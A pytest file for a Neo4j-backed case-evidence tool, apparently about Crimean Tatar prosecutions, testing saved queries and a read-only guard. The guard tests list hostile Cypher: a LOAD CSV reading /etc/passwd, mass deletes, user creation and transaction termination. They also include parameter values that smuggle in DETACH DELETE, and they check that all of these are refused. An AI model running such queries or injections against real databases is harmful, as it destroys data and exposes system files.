"""Saved queries, ``casegraph query`` and the read-only guard, against the real Neo4j.

The database holds examples/crimea plus a small fixture corpus written here (fictional
names) with what the example lacks: co-defendants, a lawyer shared by two cases, a claim
two sources support, a date two sources disagree on.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from click.testing import CliRunner

from casegraph.cli import cli
from graph.build import build_graph
from graph.db import server
from graph.db.query import QueryError, check_parameters, parameters_used, run_query
from graph.db.store import Store
from graph.resolve import ResolveError
from graph.settings import Settings
from loaders.factfile import write_fact_file
from loaders.facts import load_corpus
from queries.registry import QUERY_DIR, check_queries, list_queries, parse_query, read_saved_graph, run_saved

ROOT = Path(__file__).resolve().parents[1]
CRIMEA = ROOT / "examples" / "crimea"
PLATFORM = "source:empr-2022-fsb-agent-network"
LONG_QUERY = "UNWIND range(1, 100000000000) AS x WITH x WHERE x < 0 RETURN x AS never"

pytestmark = pytest.mark.neo4j


# -- the fixture corpus --------------------------------------------------------------------
def _entity(key: str, label: str, name: str, **extra: Any) -> dict[str, Any]:
    return {"key": key, "label": label, "name": name, **extra}


def _claim(subject: str, predicate: str, obj: str, quote: str, **extra: Any) -> dict[str, Any]:
    return {"subject": subject, "predicate": predicate, "object": obj, "quote": quote, **extra}


IVAN = _entity("person:ivan-testenko", "Person", "Ivan Testenko", aliases=["Іван Тестенко"], sensitive=True)
ALPHA = _entity("case:alpha", "LegalCase", "Alpha case", attributes={"charges": ["RU CC 205.5"]})
ARREST = _entity("event:ivan-arrest", "Event", "Arrest of Ivan Testenko", attributes={"kind": "arrest"})

FIXTURE_A = {
    "source": {"key": "source:fixture-alpha-report", "title": "Fixture report on the Alpha and Beta cases",
               "published": "2023"},
    "entities": [
        IVAN, ALPHA, ARREST,
        _entity("person:olena-primer", "Person", "Olena Primer"),
        _entity("person:petro-zrazok", "Person", "Petro Zrazok"),
        _entity("person:maria-advokat", "Person", "Maria Advokat", attributes={"occupation": "lawyer"}),
        _entity("person:taras-zakhysnyk", "Person", "Taras Zakhysnyk"),
        _entity("case:beta", "LegalCase", "Beta case"),
        _entity("org:agency-x", "Organisation", "Agency X", aliases=["AX"], attributes={"kind": "security_service"}),
        _entity("org:ngo-y", "Organisation", "NGO Y", attributes={"kind": "ngo"}),
        _entity("person:hanna-head", "Person", "Hanna Head"),
        _entity("person:dmytro-deputy", "Person", "Dmytro Deputy"),
        _entity("event:ivan-pressure", "Event", "Ivan Testenko pressed to inform",
                attributes={"kind": "pressure_to_cooperate", "date": "2020-05"}),
        _entity("event:ivan-beating", "Event", "Beating of Ivan Testenko", attributes={"kind": "ill_treatment"}),
    ],
    "claims": [
        _claim("person:ivan-testenko", "DEFENDANT_IN", "case:alpha", "Testenko stands accused in the Alpha case",
               procedural_status="accused", charge="RU CC 205.5"),
        _claim("person:olena-primer", "DEFENDANT_IN", "case:alpha", "Primer is a defendant in the Alpha case",
               procedural_status="defendant"),
        _claim("person:petro-zrazok", "DEFENDANT_IN", "case:beta", "Zrazok is tried in the Beta case"),
        _claim("person:maria-advokat", "COUNSEL_IN", "case:alpha", "Advokat defends Testenko in the Alpha case",
               client="person:ivan-testenko"),
        _claim("person:maria-advokat", "COUNSEL_IN", "case:beta", "Advokat also defends Zrazok",
               client="person:petro-zrazok"),
        _claim("person:taras-zakhysnyk", "COUNSEL_IN", "case:alpha", "Zakhysnyk represents Primer",
               client="person:olena-primer"),
        _claim("person:maria-advokat", "DEFENDS", "person:ivan-testenko", "Advokat defends Testenko in the Alpha case",
               case="case:alpha"),
        _claim("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-pressure", "they told me to inform on my friends",
               role="target", date="2020-05", asserted_by="person:ivan-testenko"),
        _claim("org:agency-x", "PARTICIPANT_IN", "event:ivan-pressure", "officers of Agency X told him to inform",
               role="perpetrator", asserted_by="person:ivan-testenko"),
        _claim("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-beating", "I was beaten in the van",
               role="target", asserted_by="person:ivan-testenko"),
        _claim("org:agency-x", "PARTICIPANT_IN", "event:ivan-beating", "Agency X officers beat him", role="perpetrator"),
        _claim("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-arrest", "Testenko was arrested in March 2020",
               role="target", date="2020-03"),
        _claim("event:ivan-arrest", "PART_OF", "case:alpha", "the arrest opened the Alpha case"),
        _claim("person:hanna-head", "LEADS", "org:ngo-y", "Hanna Head, who heads NGO Y", role="head"),
        _claim("person:dmytro-deputy", "LEADS", "org:ngo-y", "her deputy Dmytro Deputy", role="deputy head"),
        _claim("person:dmytro-deputy", "MEMBER_OF", "org:ngo-y", "on the board since 2019", role="board member",
               start="2019"),
    ],
}
FIXTURE_B = {
    "source": {"key": "source:fixture-beta-news", "title": "Fixture news item", "published": "2023-02"},
    "entities": [IVAN, ALPHA, ARREST],
    "claims": [
        _claim("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-arrest", "Testenko, arrested in April 2020",
               role="target", date="2020-04"),
        _claim("person:ivan-testenko", "DEFENDANT_IN", "case:alpha", "Testenko, a defendant in the Alpha case"),
    ],
}


@pytest.fixture(scope="module")
def fixture_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The fixture corpus as fact files."""
    folder = tmp_path_factory.mktemp("query-fixtures")
    write_fact_file(folder / "alpha.yaml", FIXTURE_A)
    write_fact_file(folder / "beta.yaml", FIXTURE_B)
    return folder


@pytest.fixture(scope="module")
def store(neo4j_server: server.ServerInfo, fixture_folder: Path) -> Iterator[Store]:
    """A store on the session's server holding examples/crimea and the fixture corpus only."""
    with Store.connect(neo4j_server.bolt_uri, neo4j_server.username, neo4j_server.password()) as st:
        st.clear()
        st.load(load_corpus([str(CRIMEA), str(fixture_folder)]))
        yield st


@pytest.fixture(scope="module")
def files_graph(fixture_folder: Path) -> nx.MultiDiGraph:
    """The same corpus built from the files: what a graph read from Neo4j must equal."""
    return build_graph(load_corpus([str(CRIMEA), str(fixture_folder)]))


@pytest.fixture
def env(neo4j_server: server.ServerInfo) -> dict[str, str]:
    """Environment for a ``casegraph`` subprocess or CliRunner on the session's server."""
    return {**os.environ, "NEO4J_URI": neo4j_server.bolt_uri, "NEO4J_USERNAME": neo4j_server.username,
            "NEO4J_PASSWORD": neo4j_server.password()}


def saved(store: Store, name: str, **params: str) -> list[dict[str, Any]]:
    return run_saved(store.driver, name, params).records()


def claims_of(store: Store, ids: list[str]) -> list[tuple[str, str, str]]:
    """(subject, predicate, object) of each claim id, sorted: what a row's claim ids stand for."""
    rows = ad_hoc(store, "UNWIND $ids AS id MATCH (c:Claim {id: id}) RETURN c.subject AS s, c.predicate AS p, "
                         "c.object AS o", {"ids": ids})
    assert len(rows) == len(ids), ids  # every id is a claim
    return sorted((r["s"], r["p"], r["o"]) for r in rows)


def ad_hoc(store: Store, text: str, params: dict[str, Any] | None = None, **kw: Any) -> list[dict[str, Any]]:
    return run_query(store.driver, text, params, **kw).records()


def invoke(env: dict[str, str], *args: str) -> Any:
    return CliRunner().invoke(cli, list(args), env=env)


# -- the registry ----------------------------------------------------------------------------
def test_every_header_matches_its_text() -> None:
    assert check_queries() == []
    names = [q.name for q in list_queries()]
    assert len(names) >= 14
    assert "schema" not in names  # generated DDL, not a saved query
    for q in list_queries():
        assert q.title and q.description
        assert {p.name for p in q.params} == set(parameters_used(q.text))


def test_a_header_that_misses_a_parameter_is_reported(tmp_path: Path) -> None:
    (tmp_path / "bad.cypher").write_text("// title: Bad\n// description: uses an undeclared parameter\n"
                                         "// param a (string, required): declared\nRETURN $a, $b\n")
    (tmp_path / "unused.cypher").write_text("// title: Unused\n// description: declares too much\n"
                                            "// param a (string, required): used\n"
                                            "// param c (integer, default 3): never used\nRETURN $a\n")
    (tmp_path / "badtype.cypher").write_text("// title: T\n// description: d\n"
                                             "// param a (number, required): x\nRETURN $a\n")
    assert check_queries(tmp_path) == [
        "bad.cypher: the text uses $b but the header does not declare it",
        "badtype.cypher:3: unknown parameter type 'number' (known: entity, string, date, integer)",
        "unused.cypher: the header declares c but the text does not use it",
    ]


def test_parameters_used_skips_strings_and_comments() -> None:
    text = "MATCH (n {key: $key}) // $comment\nWHERE n.x = '$no' AND n.y = \"$nope\" /* $c */ RETURN $`odd`, $key"
    assert parameters_used(text) == ["key", "odd"]
    assert parse_query(QUERY_DIR / "shortest-connections.cypher").param("max_hops").default == 6  # type: ignore[union-attr]


# -- every saved query, with its rows --------------------------------------------------------
def test_pressured_to_cooperate(store: Store) -> None:
    rows = saved(store, "pressured-to-cooperate")
    got = {(r["person"], r["event"], tuple(r["applied_by"]), r["date"]) for r in rows}
    assert got == {
        ("Kurtumer Chalgozov", "Chalgozov forced to sign consent to cooperate with the FSB",
         ("Russian occupation authorities",), "2021-12"),
        ("Nariman Ametov", "Nariman Ametov offered to cooperate", (), None),
        ("Ivan Testenko", "Ivan Testenko pressed to inform", ("Agency X",), "2020-05"),
    }
    chalgozov = next(r for r in rows if r["person"] == "Kurtumer Chalgozov")
    assert chalgozov["quote"].startswith("taken to an unknown location")
    assert chalgozov["url"].startswith("https://empr.media/")
    only_x = saved(store, "pressured-to-cooperate", agency="AX")  # by alias
    assert [(r["person"], r["quote"]) for r in only_x] == [("Ivan Testenko", "they told me to inform on my friends")]


def test_case_defendants(store: Store) -> None:
    rows = saved(store, "case-defendants", case="Alpha case")
    assert [(r["defendant"], r["status"], r["charge"], r["lawyers"]) for r in rows] == [
        ("Ivan Testenko", "accused", "RU CC 205.5", ["Maria Advokat"]),
        ("Olena Primer", "defendant", None, ["Taras Zakhysnyk"]),
    ]
    assert rows[0]["case_charges"] == ["RU CC 205.5"]
    assert rows[0]["sources"] == ["source:fixture-alpha-report", "source:fixture-beta-news"]
    # "Dzhelyal" names a person and a case; the parameter wants a case, which settles it.
    crimea = saved(store, "case-defendants", case="Dzhelyal")
    assert [(r["defendant"], r["charge"], r["lawyers"]) for r in crimea] == [
        ("Nariman Dzhelyal", "sabotage", ["Nikolai Polozov"])]


def test_lawyer_cases_and_shared_lawyers(store: Store) -> None:
    rows = saved(store, "lawyer-cases", lawyer="Maria Advokat")
    assert [(r["case"], r["clients"], r["other_lawyers"]) for r in rows] == [
        ("Alpha case", ["Ivan Testenko"], ["Taras Zakhysnyk"]),
        ("Beta case", ["Petro Zrazok"], []),
    ]
    polozov = saved(store, "lawyer-cases", lawyer="Николай Полозов")
    assert [(r["case_key"], r["clients"]) for r in polozov] == [("case:dzhelyal-sabotage", ["Nariman Dzhelyal"])]
    shared = saved(store, "shared-lawyers")
    assert [{k: r[k] for k in ("lawyer", "n_cases", "cases", "lawyer_key", "case_keys")} for r in shared] == [
        {"lawyer": "Maria Advokat", "n_cases": 2, "cases": ["Alpha case", "Beta case"],
         "lawyer_key": "person:maria-advokat", "case_keys": ["case:alpha", "case:beta"]}]
    assert len(shared[0]["claim_ids"]) == 2  # her two COUNSEL_IN claims
    assert saved(store, "shared-lawyers", min_cases="3") == []


def test_co_defendants(store: Store) -> None:
    rows = saved(store, "co-defendants", person="Тестенко")
    assert [{k: v for k, v in r.items() if k != "claim_ids"} for r in rows] == [
        {"case": "Alpha case", "co_defendant": "Olena Primer", "status": "defendant", "charge": None,
         "case_key": "case:alpha", "co_defendant_key": "person:olena-primer"}]
    assert claims_of(store, rows[0]["claim_ids"]) == [
        ("person:ivan-testenko", "DEFENDANT_IN", "case:alpha"), ("person:olena-primer", "DEFENDANT_IN", "case:alpha")]
    assert saved(store, "co-defendants", person="Dzhelyal") == []


def test_organisation_leadership(store: Store) -> None:
    rows = saved(store, "organisation-leadership", organisation="NGO Y")
    assert [(r["person"], r["relationship"], r["role"], r["since"]) for r in rows] == [
        ("Dmytro Deputy", "LEADS", "deputy head", None),
        ("Hanna Head", "LEADS", "head", None),
        ("Dmytro Deputy", "MEMBER_OF", "board member", "2019"),
    ]
    mejlis = saved(store, "organisation-leadership", organisation="Меджлис крымскотатарского народа")
    assert [(r["person"], r["role"], r["quote"]) for r in mejlis] == [
        ("Nariman Dzhelyal", "first deputy head", "first deputy head of the Mejlis, Nariman Dzhelyal"),
        ("Refat Chubarov", "head", "head of the Mejlis of the Crimean Tatar People Refat Chubarov"),
    ]


def test_person_timeline(store: Store) -> None:
    rows = saved(store, "person-timeline", person="Ivan Testenko")
    assert [(r["date"], r["object"]) for r in rows] == [
        ("2020-03", "Arrest of Ivan Testenko"),  # the earliest of 2020-03 and 2020-04
        ("2020-05", "Ivan Testenko pressed to inform"),
    ]
    assert [r["date"] for r in saved(store, "person-timeline", person="Ivan Testenko", since="2020-04")] == ["2020-05"]
    assert [r["date"] for r in saved(store, "person-timeline", person="Ivan Testenko", until="2020-03")] == ["2020-03"]
    chalgozov = saved(store, "person-timeline", person="person:kurtumer-chalgozov")
    assert {(r["date"], r["role"]) for r in chalgozov} == {("2021-12", "target")} and len(chalgozov) == 2


def test_source_statements(store: Store) -> None:
    rows = saved(store, "source-statements", source="source:fixture-beta-news")
    assert [(r["subject"], r["relationship"], r["object"], r["date"]) for r in rows] == [
        ("Ivan Testenko", "DEFENDANT_IN", "Alpha case", None),
        ("Ivan Testenko", "PARTICIPANT_IN", "Arrest of Ivan Testenko", "2020-04"),
    ]
    crimea = saved(store, "source-statements", source=PLATFORM)
    assert len(crimea) == 26  # every claim of the example file
    fsb = next(r for r in crimea if r["subject"].startswith("Federal Security Service"))
    assert fsb["asserted_by"] == "Refat Chubarov" and fsb["qualifier"] == "perpetrator"


def test_relationship_evidence(store: Store) -> None:
    rows = saved(store, "relationship-evidence", a="Polozov", b="Джелял")
    assert [(r["subject"], r["relationship"], r["object"], r["quote"]) for r in rows] == [
        ("Nikolai Polozov", "DEFENDS", "Nariman Dzhelyal", "Nariman Dzhelyal’s defender Nikolai Polozov")]
    both = saved(store, "relationship-evidence", a="case:alpha", b="Ivan Testenko", type="DEFENDANT_IN")
    assert [(r["source"], r["quote"]) for r in both] == [
        ("Fixture news item", "Testenko, a defendant in the Alpha case"),
        ("Fixture report on the Alpha and Beta cases", "Testenko stands accused in the Alpha case"),
    ]


def test_person_assertions(store: Store) -> None:
    rows = saved(store, "person-assertions", person="Chubarov")
    assert [(r["subject"], r["role"], r["object"]) for r in rows] == [
        ("Federal Security Service of the Russian Federation", "perpetrator",
         "FSB attempts to recruit Crimean Tatars as informants"),
        ("Russian occupation authorities", "perpetrator", "FSB attempts to recruit Crimean Tatars as informants"),
    ]


def test_torture_allegations(store: Store) -> None:
    rows = saved(store, "torture-allegations")
    got = {(r["victim"], r["kind"], tuple(r["responsible"]), tuple(r["alleged_by"]), tuple(r["cases"])) for r in rows}
    assert got == {
        ("Ivan Testenko", "ill_treatment", ("Agency X",), ("Ivan Testenko",), ("Alpha case",)),
        ("Kurtumer Chalgozov", "torture", (), (PLATFORM,), ("Sabotage case against Nariman Dzhelyal",)),
        ("Nariman Ametov", "torture", (), ("Nariman Ametov",), ("Sabotage case against Nariman Dzhelyal",)),
    }


def test_case_network(store: Store) -> None:
    rows = saved(store, "case-network", case="case:dzhelyal-sabotage")
    assert [(r["entity"], r["tie"]) for r in rows] == [
        ("Kurtumer Chalgozov", "PARTICIPANT_IN"),
        ("Nariman Ametov", "PARTICIPANT_IN"),
        ("Nariman Dzhelyal", "ACCUSED_OF"),
        ("Nariman Dzhelyal", "DEFENDANT_IN"),
        ("Nikolai Polozov", "COUNSEL_IN"),
        ("Nikolai Polozov", "DEFENDS"),
    ]
    alpha = {(r["entity"], r["tie"]) for r in saved(store, "case-network", case="Alpha case")}
    assert alpha == {("Ivan Testenko", "DEFENDANT_IN"), ("Olena Primer", "DEFENDANT_IN"),
                     ("Maria Advokat", "COUNSEL_IN"), ("Maria Advokat", "DEFENDS"),
                     ("Taras Zakhysnyk", "COUNSEL_IN"), ("Ivan Testenko", "PARTICIPANT_IN")}


def test_shortest_connections(store: Store) -> None:
    rows = saved(store, "shortest-connections", a="Chubarov", b="Polozov")
    assert [(r["chain"], r["hop"], r["subject"], r["relationship"], r["object"]) for r in rows] == [
        (1, 1, "Refat Chubarov", "LEADS", "Mejlis of the Crimean Tatar People"),
        (1, 2, "Nariman Dzhelyal", "LEADS", "Mejlis of the Crimean Tatar People"),
        (1, 3, "Nikolai Polozov", "DEFENDS", "Nariman Dzhelyal"),
    ]
    assert rows[2]["evidence"] == [f"{PLATFORM}: Nariman Dzhelyal’s defender Nikolai Polozov"]
    assert saved(store, "shortest-connections", a="Chubarov", b="Polozov", max_hops="2") == []
    assert saved(store, "shortest-connections", a="Chubarov", b="Ivan Testenko") == []  # not connected


def test_single_source_and_disputed_facts(store: Store) -> None:
    single = saved(store, "single-source-facts", entity="Ivan Testenko")
    pairs = {(r["relationship"], r["object"]) for r in single}
    assert ("DEFENDANT_IN", "Alpha case") not in pairs  # two sources
    assert ("PARTICIPANT_IN", "Ivan Testenko pressed to inform") in pairs
    assert len(saved(store, "single-source-facts")) == 26 + 16 - 2  # every claim but the two both fixtures give
    disputed = saved(store, "disputed-facts")
    assert [{k: v for k, v in r.items() if k != "claim_id"} for r in disputed] == [{
        "subject": "Ivan Testenko", "relationship": "PARTICIPANT_IN", "object": "Arrest of Ivan Testenko",
        "disputed": ["date"], "earliest_date": "2020-03",
        "sources_say": ["source:fixture-alpha-report says date 2020-03", "source:fixture-beta-news says date 2020-04"],
        "subject_key": "person:ivan-testenko", "object_key": "event:ivan-arrest",
    }]
    assert claims_of(store, [disputed[0]["claim_id"]]) == [
        ("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-arrest")]


def test_entities_by_name(store: Store) -> None:
    rows = saved(store, "entities-by-name", text="нариман")
    assert [r["key"] for r in rows] == ["person:nariman-ametov", "person:nariman-dzhelyal"]
    assert rows[0]["sources"] == 1


def test_every_saved_query_is_tested() -> None:
    text = Path(__file__).read_text(encoding="utf-8")
    untested = [q.name for q in list_queries() if f'"{q.name}"' not in text]
    assert untested == []


# -- saved queries as graph input (--query NAME) ---------------------------------------------
DZHELYAL_NETWORK = [
    ("event:ametov-arrest", "LINKED_TO", "case:dzhelyal-sabotage"),
    ("event:chalgozov-arrest-2021-12", "LINKED_TO", "case:dzhelyal-sabotage"),
    ("person:kurtumer-chalgozov", "PARTICIPANT_IN", "event:chalgozov-arrest-2021-12"),
    ("person:nariman-ametov", "PARTICIPANT_IN", "event:ametov-arrest"),
    ("person:nariman-dzhelyal", "ACCUSED_OF", "case:dzhelyal-sabotage"),
    ("person:nariman-dzhelyal", "DEFENDANT_IN", "case:dzhelyal-sabotage"),
    ("person:nikolai-polozov", "COUNSEL_IN", "case:dzhelyal-sabotage"),
    ("person:nikolai-polozov", "DEFENDS", "person:nariman-dzhelyal"),
]
AS_GRAPH = [  # (query, parameters, the claims its graph holds, entities beyond those claims' ends)
    ("case-network", {"case": "Dzhelyal"}, DZHELYAL_NETWORK, set()),
    ("lawyer-cases", {"lawyer": "Maria Advokat"}, [
        ("person:ivan-testenko", "DEFENDANT_IN", "case:alpha"),
        ("person:maria-advokat", "COUNSEL_IN", "case:alpha"),
        ("person:maria-advokat", "COUNSEL_IN", "case:beta"),
        ("person:maria-advokat", "DEFENDS", "person:ivan-testenko"),
        ("person:petro-zrazok", "DEFENDANT_IN", "case:beta"),
        ("person:taras-zakhysnyk", "COUNSEL_IN", "case:alpha"),
    ], set()),
    ("relationship-evidence", {"a": "Polozov", "b": "Джелял"}, [
        ("person:nikolai-polozov", "DEFENDS", "person:nariman-dzhelyal")], set()),
    ("person-timeline", {"person": "Ivan Testenko"}, [
        ("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-arrest"),
        ("person:ivan-testenko", "PARTICIPANT_IN", "event:ivan-pressure"),
    ], set()),
    ("shortest-connections", {"a": "Chubarov", "b": "Polozov"}, [
        ("person:nariman-dzhelyal", "LEADS", "org:mejlis"),
        ("person:nikolai-polozov", "DEFENDS", "person:nariman-dzhelyal"),
        ("person:refat-chubarov", "LEADS", "org:mejlis"),
    ], set()),
    ("person-assertions", {"person": "Chubarov"}, [
        ("org:fsb", "PARTICIPANT_IN", "event:fsb-recruitment-of-crimean-tatars"),
        ("org:russian-occupation-authorities", "PARTICIPANT_IN", "event:fsb-recruitment-of-crimean-tatars"),
    ], {"person:refat-chubarov"}),  # the speaker: a node of its own
]


def triples(g: nx.MultiDiGraph) -> list[tuple[str, str, str]]:
    return sorted((u, d["type"], v) for u, v, d in g.edges(data=True))


@pytest.mark.parametrize(("name", "params", "claims", "extra"), AS_GRAPH, ids=[c[0] for c in AS_GRAPH])
def test_a_saved_query_as_graph_input(store: Store, env: dict[str, str], files_graph: nx.MultiDiGraph, name: str,
                                      params: dict[str, str], claims: list[tuple[str, str, str]],
                                      extra: set[str]) -> None:
    """`stats --from neo4j --query NAME` counts the entities and claims the query is about; the
    graph read back holds exactly them, each claim with the evidence the files give it."""
    flags = [x for k, v in params.items() for x in ("-p", k, v)]
    result = invoke(env, "stats", "--from", "neo4j", "--query", name, *flags, "--format", "json")
    assert result.exit_code == 0, result.output
    summary = json.loads(result.output)
    ends = {k for s, _, o in claims for k in (s, o)} | extra
    assert summary["nodes"] == len(ends) and summary["claims"] == len(claims) > 0
    assert summary["types"] == {t: sum(1 for c in claims if c[1] == t) for t in sorted({c[1] for c in claims})}
    g = read_saved_graph(store, name, params)
    assert set(g.nodes) == ends
    assert triples(g) == claims
    for u, v, k, d in g.edges(keys=True, data=True):
        assert d["evidence"] and d == files_graph.edges[u, v, k]  # evidence and all, as built from the files
    for n, d in g.nodes(data=True):
        assert d["name"] == files_graph.nodes[n]["name"]


def test_a_saved_query_exports_its_graph(store: Store, env: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "out.graphml"
    result = invoke(env, "export", "--from", "neo4j", "--query", "case-network", "-p", "case",
                    "Sabotage case against Nariman Dzhelyal", "-o", str(out))
    assert result.exit_code == 0, result.output
    back = nx.read_graphml(out, force_multigraph=True)  # as users read it
    assert set(back.nodes) == {k for s, _, o in DZHELYAL_NETWORK for k in (s, o)}
    assert sorted((u, d["type"], v) for u, v, d in back.edges(data=True)) == DZHELYAL_NETWORK
    assert back.nodes["person:nikolai-polozov"]["name"] == "Nikolai Polozov"


def test_read_cypher_takes_keys_and_claim_ids_returned_as_text(store: Store) -> None:
    persons = {r["key"] for r in ad_hoc(store, "MATCH (p:Person) RETURN p.key AS key")}
    g = store.read_cypher("MATCH (p:Person) RETURN p.key AS key")
    assert set(g.nodes) == persons  # every person, and no other entity
    among = ad_hoc(store, "MATCH (c:Claim) WHERE c.subject IN $k AND c.object IN $k "
                          "RETURN c.subject AS s, c.predicate AS p, c.object AS o", {"k": sorted(persons)})
    assert triples(g) == sorted((r["s"], r["p"], r["o"]) for r in among)  # keys alone: the claims among them
    assert ("person:nikolai-polozov", "DEFENDS", "person:nariman-dzhelyal") in triples(g)
    assert all(d["evidence"] for _, _, d in g.edges(data=True))
    # Claim ids as text: those claims only, with their two ends.
    ids = store.read_cypher("MATCH (c:Claim {predicate: 'COUNSEL_IN'}) RETURN c.id AS id")
    assert sorted(t[1] for t in triples(ids)) == ["COUNSEL_IN"] * 4
    assert "case:beta" in ids and "person:maria-advokat" in ids
    # Keys and claim ids together: the listed claims, not every claim among the keys.
    both = store.read_cypher("MATCH (l {key: 'person:maria-advokat'})-[r:COUNSEL_IN]->(c {key: 'case:beta'}) "
                             "RETURN 'person:ivan-testenko' AS key, r.claim_id AS claim_id")
    assert set(both.nodes) == {"person:ivan-testenko", "person:maria-advokat", "case:beta"}
    assert triples(both) == [("person:maria-advokat", "COUNSEL_IN", "case:beta")]
    # Text that only begins like a key or a claim id is neither.
    assert store.read_cypher("RETURN 'case: the court said' AS a, 'claim: none' AS b, 'person:' AS c, "
                             "'person:Ivan Testenko' AS d").number_of_nodes() == 0


# -- entity parameters -----------------------------------------------------------------------
def test_entity_parameters_are_resolved_or_refused(store: Store) -> None:
    with pytest.raises(ResolveError, match=r"^'Nariman' is ambiguous: Nariman Ametov \(person:nariman-ametov\), "
                                           r"Nariman Dzhelyal \(person:nariman-dzhelyal\)$"):
        saved(store, "person-timeline", person="Nariman")
    with pytest.raises(ResolveError, match=r"^no entity 'Chalgozv'; closest: Kurtumer Chalgozov"):
        saved(store, "person-timeline", person="Chalgozv")
    with pytest.raises(QueryError, match=r"^parameter 'lawyer' wants a Person, and 'Mejlis' is org:mejlis$"):
        saved(store, "lawyer-cases", lawyer="Mejlis")
    with pytest.raises(QueryError, match=r"^person-timeline needs -p person VALUE \(entity: "):
        saved(store, "person-timeline")
    with pytest.raises(QueryError, match=r"^unknown parameter 'who' for person-timeline \(it takes person, since, "
                                         r"until\)$"):
        saved(store, "person-timeline", person="Chubarov", who="x")
    with pytest.raises(QueryError, match=r"^parameter 'since' must be a date written YYYY, YYYY-MM or YYYY-MM-DD, "
                                         r"not 'last year'$"):
        saved(store, "person-timeline", person="Chubarov", since="last year")
    with pytest.raises(QueryError, match=r"^parameter 'min_cases' must be a whole number, not 'two'$"):
        saved(store, "shared-lawyers", min_cases="two")
    with pytest.raises(QueryError, match=r"^no saved query 'co-defendant'; did you mean co-defendants"):
        saved(store, "co-defendant")


# -- the read-only guard ---------------------------------------------------------------------
REFUSED = [
    ("CREATE (n:Scratch) RETURN n", "this query writes"),
    ("MERGE (n:Scratch {key: 'x'})", "this query writes"),
    ("MATCH (n:Person) SET n.name = 'x'", "this query writes"),
    ("MATCH (n:Person) DETACH DELETE n", "this query writes"),
    ("LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l", "LOAD CSV is not allowed"),
    ("LOAD CSV FROM 'http://127.0.0.1:9/x.csv' AS l RETURN l", "LOAD CSV is not allowed"),
    ("MATCH (n) CALL (n) { RETURN n.key AS k } IN TRANSACTIONS RETURN k", "CALL { ... } IN TRANSACTIONS is not allowed"),
    ("CALL dbms.killConnections(['bolt-1'])", "this query changes the schema or the server"),
    ("CALL db.clearQueryCaches()", "this query changes the schema or the server"),
    ("CALL db.createLabel('Scratch')", "this query writes"),
    ("CALL db.stats.retrieve('GRAPH COUNTS')", "procedure db.stats.retrieve is not allowed"),
    ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "TERMINATE TRANSACTIONS is not allowed"),
    ("SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message",
     "TERMINATE TRANSACTIONS is not allowed"),
    ("SHOW USERS", "this query changes the schema or the server"),
    ("CREATE USER mallory SET PASSWORD 'secret-secret'", "this query changes the schema or the server"),
]


@pytest.mark.parametrize(("text", "why"), REFUSED)
def test_the_guard_refuses(store: Store, text: str, why: str) -> None:
    before = store.counts()
    with pytest.raises(QueryError) as err:
        run_query(store.driver, text)
    message = str(err.value)
    assert message.startswith(why) and message.endswith("casegraph runs read-only queries unless you give --write")
    assert "\n" not in message
    assert store.counts() == before


def test_the_guard_allows_reads_and_schema_procedures(store: Store) -> None:
    assert {r["label"] for r in ad_hoc(store, "CALL db.labels()")} >= {"Person", "Claim", "Evidence", "Source"}
    assert ad_hoc(store, "CALL db.schema.visualization() YIELD nodes RETURN size(nodes) > 0 AS some") == [{"some": True}]
    assert ad_hoc(store, "MATCH (n:Person {key: $k}) RETURN n.name AS name", {"k": "person:refat-chubarov"}) == [
        {"name": "Refat Chubarov"}]


def test_a_parameter_value_cannot_inject_cypher(store: Store, env: dict[str, str]) -> None:
    before = store.counts()
    evil = "x'}) DETACH DELETE n //"
    assert ad_hoc(store, "MATCH (n:Entity {key: $k}) RETURN n.key AS key", {"k": evil}) == []
    result = invoke(env, "query", "entities-by-name", "-p", "text", "') MATCH (n) DETACH DELETE n //")
    assert result.exit_code == 0, result.output
    assert store.counts() == before


def test_parameter_and_syntax_errors_are_one_line(store: Store) -> None:
    with pytest.raises(QueryError, match=r"^missing parameter \$k: give it with -p NAME VALUE$"):
        run_query(store.driver, "MATCH (n {key: $k}) RETURN n")
    with pytest.raises(QueryError, match=r"^unknown parameter 'x': the query uses \$k$"):
        run_query(store.driver, "MATCH (n {key: $k}) RETURN n", {"k": "a", "x": "b"})
    with pytest.raises(QueryError, match=r"^Cypher syntax error at line 2, column 10: Invalid input 'LIMT'"):
        run_query(store.driver, "MATCH (n)\nRETURN n LIMT 3")
    check_parameters("RETURN 1", {})


def test_a_timeout_ends_the_query_on_the_server(store: Store) -> None:
    with pytest.raises(QueryError, match=r"^the query ran longer than its timeout of 1 s and was ended on the server"):
        run_query(store.driver, LONG_QUERY, timeout=1)
    running = ad_hoc(store, "SHOW TRANSACTIONS YIELD currentQuery WHERE currentQuery CONTAINS 'never' "
                            "AND NOT currentQuery CONTAINS 'SHOW' RETURN currentQuery")
    assert running == []


def test_a_read_past_the_transaction_memory_limit_fails_and_the_server_stays_up(store: Store) -> None:
    # The JVM-wide case (an OutOfMemoryError, after which the launcher restarts the server) runs on
    # a server of its own, so that it never restarts the session's: tests/test_server_health.py.
    with pytest.raises(QueryError, match=r"^the query needs more memory than one transaction may use"):
        run_query(store.driver, "UNWIND range(1, 100000000) AS x WITH collect(toString(x)) AS c RETURN size(c)")
    assert ad_hoc(store, "RETURN 1 AS one") == [{"one": 1}]


def test_write_lets_a_deliberate_write_through(store: Store, env: dict[str, str]) -> None:
    refused = invoke(env, "query", "--cypher", "CREATE (n:Scratch {key: 'scratch'}) RETURN n.key AS key")
    assert refused.exit_code == 1
    assert "this query writes" in refused.output
    result = invoke(env, "query", "--cypher", "CREATE (n:Scratch {key: 'scratch'}) RETURN n.key AS key",
                    "--write", "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["rows"] == [{"key": "scratch"}]
    assert ad_hoc(store, "MATCH (n:Scratch) RETURN n.key AS key") == [{"key": "scratch"}]
